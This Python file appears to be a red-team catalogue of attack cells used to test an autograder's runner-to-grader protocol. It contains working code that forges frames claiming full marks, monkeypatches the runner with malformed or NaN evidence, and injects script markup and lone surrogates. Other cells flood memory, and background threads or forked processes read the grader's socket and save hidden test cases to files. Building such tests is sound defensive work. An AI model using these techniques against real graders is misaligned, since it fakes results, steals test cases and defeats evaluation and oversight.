# ruff: noqa
# Attacks on the conversation between the process that runs the notebook and the grader. See ../catalogue.py.

# %% attack: forged_marks
# tries: write frames to the runner's socket that claim a mark
# solved: none
# %%
import json, os, socket, struct


def sockets():
    for fd in range(3, 256):
        try:
            yield socket.socket(fileno=os.dup(fd))
        except OSError:
            pass


def frame(header, body=b""):
    text = json.dumps(header).encode()
    return struct.pack("<4sIQ", b"AGF1", len(text), len(body)) + text + body


def say(*frames):
    for one in sockets():
        try:
            one.sendall(b"".join(frames))
        except OSError:
            pass


say(frame({"points": 16.0, "passed": True, "verdict": "passed", "finished": True}))

# %% attack: forged_ends
# tries: end all cells and exercises itself, with success, and exit
# solved: none
# %%
import json, os, socket, struct

frames = b""
for number in range(40):
    for header in ({"begin": number}, {"end": number, "outputs": [], "failed": "", "status": 0, "late": False}):
        text = json.dumps(header).encode()
        frames += struct.pack("<4sIQ", b"AGF1", len(text), 0) + text
for fd in range(3, 256):
    try:
        socket.socket(fileno=os.dup(fd)).sendall(frames)
    except OSError:
        pass
os._exit(0)

# %% attack: forged_evidence
# tries: answer for all exercises, in their turn, with evidence whose arrays are empty, infinite or not a number
# solved: none
# %%
import os, socket
import numpy as np
import autograder.grading.runner as runner
from autograder.evidence import Evidence


def play(channel, namespace, number, names):
    channel.send({"ask": number, "missing": []})
    _, body = channel.receive()
    for case in runner.unpack(body):
        arrays = {f"parameter {i}": np.full((9, 8), np.nan) for i in range(3)}
        arrays |= {name: np.full((9, 8), np.inf) for name in "wmv"}
        channel.send({"evidence": number}, runner.encode(Evidence(arrays=arrays, stepped=frozenset(arrays))))


runner._play = play

# %% attack: broken_evidence
# tries: evidence whose header has the wrong types everywhere: infinite counts, facts that are no mapping
# solved: none
# %%
import json, struct
import autograder.grading.runner as runner

WRONG_HEADERS = [
    {"printed_lines": float("inf")},
    {"printed_lines": -5, "seconds": float("nan")},
    {"facts": [1, 2, 3]},
    {"facts": {"p.grad": {"a": [None]}, "parameters": 10**300}},
    {"problem": {"kind": "solved", "type": 5, "message": None, "frames": []}},
    {
        "problem": {
            "kind": "raised",
            "type": "E",
            "message": "m",
            "frames": [{"function": 1, "line": "x", "source": None}],
        }
    },
    {"arrays": [["w", "float64", [0, 10**30]]]},
    {"arrays": [["w", "float64", [True, -1]]]},
    {"arrays": [["w", "object", [1]]]},
    {"stepped": 7},
]


def play(channel, namespace, number, names):
    channel.send({"ask": number, "missing": []})
    channel.receive()
    header = {"arrays": [], "stepped": [], "facts": {}, "problem": None, "printed_lines": 0, "seconds": 0.0}
    wrong = WRONG_HEADERS[number % len(WRONG_HEADERS)]
    for _ in range(3):
        for one in (wrong, WRONG_HEADERS[0], WRONG_HEADERS[2], WRONG_HEADERS[3], WRONG_HEADERS[4]):
            text = json.dumps({**header, **one}).encode()
            channel.send({"evidence": number}, b"EVD1" + struct.pack("<Q", len(text)) + text)


runner._play = play

# %% attack: facts_that_are_no_mapping
# tries: evidence that makes the judge itself fail
# solved: none
# %%
import json, struct
import autograder.grading.runner as runner


def play(channel, namespace, number, names):
    channel.send({"ask": number, "missing": []})
    channel.receive()
    header = {"arrays": [], "stepped": [], "problem": None, "printed_lines": 0, "seconds": 0.0}
    header["facts"] = [1, 2]
    text = json.dumps(header).encode()
    for _ in range(30):
        channel.send({"evidence": number}, b"EVD1" + struct.pack("<Q", len(text)) + text)


runner._play = play

# %% attack: infinite_counts
# tries: evidence with counts that no integer holds
# solved: none
# %%
import json, struct
import autograder.grading.runner as runner


def play(channel, namespace, number, names):
    channel.send({"ask": number, "missing": []})
    channel.receive()
    header = {"arrays": [], "stepped": [], "facts": {}, "problem": None, "seconds": 0.0, "printed_lines": float("inf")}
    text = json.dumps(header).encode()
    channel.send({"evidence": number}, b"EVD1" + struct.pack("<Q", len(text)) + text)


runner._play = play

# %% attack: problem_of_wrong_types
# tries: a problem report with numbers for texts, lone surrogates and markup, five million characters long
# solved: none
# %%
import json, struct
import autograder.grading.runner as runner


def play(channel, namespace, number, names):
    channel.send({"ask": number, "missing": []})
    channel.receive()
    frames = [{"function": "<b>\ud800", "line": 10**20, "source": ["x"]}] * 1000
    header = {"arrays": [], "stepped": [], "facts": {"p.grad": "\udfff" * 99}, "printed_lines": 0, "seconds": 1e308}
    header["problem"] = {"kind": "raised", "type": 7 if number % 2 else "\ud800", "message": "\ud800<script>" * 400_000}
    header["problem"]["frames"] = frames
    text = json.dumps(header).encode()
    for _ in range(5):
        channel.send({"evidence": number}, b"EVD1" + struct.pack("<Q", len(text)) + text)


runner._play = play

# %% attack: strange_ends
# tries: endings with outputs, failures and usage of the wrong types
# solved: none
# %%
import autograder.grading.channel as channels

send = channels.Channel.send


def lie(self, header, body=b"", seconds=None):
    if "end" in header:
        header = {**header, "outputs": [{"output_type": "\ud800", "text": [1, {}]}, None, 7], "failed": {"\ud800": 1}}
        header |= {"status": True, "late": []}
    if "finished" in header:
        header = {"finished": True, "cpu_seconds": 10**400, "peak_mb": float("nan")}
    if "ask" in header:
        header |= {"missing": ["\ud800<script>alert(1)</script>" * 1000, None, 5]}
    return send(self, header, body, seconds)


channels.Channel.send = lie

# %% attack: endless_usage
# tries: right answers, and a report of used processor time that is no number
# solved: all
# %%
import autograder.grading.runner as runner

runner._usage = lambda: {"cpu_seconds": 10**400, "peak_mb": float("-inf"), "points": 99}

# %% attack: garbage_frames
# tries: write random bytes to the socket while the notebook runs
# solved: none
# %%
import os, socket

for fd in range(3, 256):
    try:
        socket.socket(fileno=os.dup(fd)).sendall(os.urandom(4096))
    except OSError:
        pass

# %% attack: huge_length
# tries: announce a frame of 2**63 bytes
# solved: none
# %%
import os, socket, struct

for fd in range(3, 256):
    try:
        socket.socket(fileno=os.dup(fd)).sendall(struct.pack("<4sIQ", b"AGF1", 2**32 - 1, 2**63) + b"{}")
    except OSError:
        pass

# %% attack: partial_frame_then_memory
# tries: start a frame, so that the grader reads, and take all memory while it waits for the rest
# solved: none
# %%
import os, socket, struct, time

for fd in range(3, 256):
    try:
        socket.socket(fileno=os.dup(fd)).sendall(struct.pack("<4sIQ", b"AGF1", 1000, 10) + b"{")
    except OSError:
        pass
blocks = []
for _ in range(20):
    blocks.append(bytearray(100 * 2**20))
    for i in range(0, len(blocks[-1]), 4096):
        blocks[-1][i] = 1
time.sleep(60)

# %% attack: flood_of_evidence
# tries: fill the grader's memory with evidence of the largest size that a frame may have
# solved: none
# %%
import json, struct
import autograder.grading.runner as runner


def play(channel, namespace, number, names):
    channel.send({"ask": number, "missing": []})
    channel.receive()
    size = 7 * 2**20
    header = {"arrays": [["w", "float64", [size]]], "stepped": [], "facts": {}, "problem": None}
    header |= {"printed_lines": 0, "seconds": 0.0}
    text = json.dumps(header).encode()
    body = b"EVD1" + struct.pack("<Q", len(text)) + text + bytes(8 * size)
    for _ in range(20):
        channel.send({"evidence": number}, body)


runner._play = play

# %% attack: flood_of_outputs
# tries: report outputs of the largest size that a frame may have for each of many cells
# solved: none
# %%
import autograder.grading.runner as runner

real = runner.shells.run_cell


def run_cell(shell, source, seconds):
    outputs, failed = real(shell, source, seconds)
    return [{"output_type": "stream", "name": "stdout", "text": "x" * 7_000_000}], failed


runner.shells.run_cell = run_cell
# %%
1
# %%
2
# %%
3
# %%
4
# %%
5
# %%
6
# %%
7
# %%
8
# %%
9

# %% attack: thread_on_the_socket
# tries: a thread that stays, reads the socket in the runner's place and keeps the cases
# solved: none
# %%
import os, socket, threading


def steal():
    for fd in range(3, 256):
        try:
            one = socket.socket(fileno=os.dup(fd))
            one.setblocking(False)
            data = one.recv(2**20)
            open(os.path.expanduser("~/stolen"), "ab").write(data)
        except (OSError, ValueError):
            pass


for _ in range(4):
    threading.Thread(target=lambda: [steal() for _ in range(10**9)], daemon=True).start()

# %% attack: helper_keeps_cases
# tries: a process left behind reads the cases of one exercise and hands them to the next one through a file
# solved: none
# %%
import os, socket, time

if os.fork() == 0:
    end = time.time() + 6
    while time.time() < end:
        for fd in range(3, 64):
            try:
                one = socket.socket(fileno=os.dup(fd))
                data = one.recv(2**20, socket.MSG_PEEK | socket.MSG_DONTWAIT)
                open("/tmp/peeked", "ab").write(data)
            except (OSError, ValueError):
                pass
        time.sleep(0.01)
    os._exit(0)
